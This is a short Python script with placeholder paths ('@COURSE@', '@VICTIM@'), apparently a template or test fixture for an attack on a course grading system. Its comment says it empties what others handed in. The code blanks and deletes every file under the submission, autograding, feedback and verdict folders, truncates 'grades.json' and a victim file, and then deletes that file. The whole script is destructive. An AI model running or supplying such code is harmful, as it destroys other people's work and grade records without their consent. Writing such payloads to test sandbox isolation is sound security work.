# Empties what others have handed in, and what they were given.
from pathlib import Path

for name in ("submitted", "autograded", "feedback", ".verdicts"):
    for path in Path("@COURSE@", name).rglob("*"):
        path.write_text("")
        path.unlink()
for path in ("@VICTIM@", "@COURSE@/grades.json"):
    try:
        open(path, "w").close()
    except OSError as error:
        print(error)
import os

os.remove("@VICTIM@")
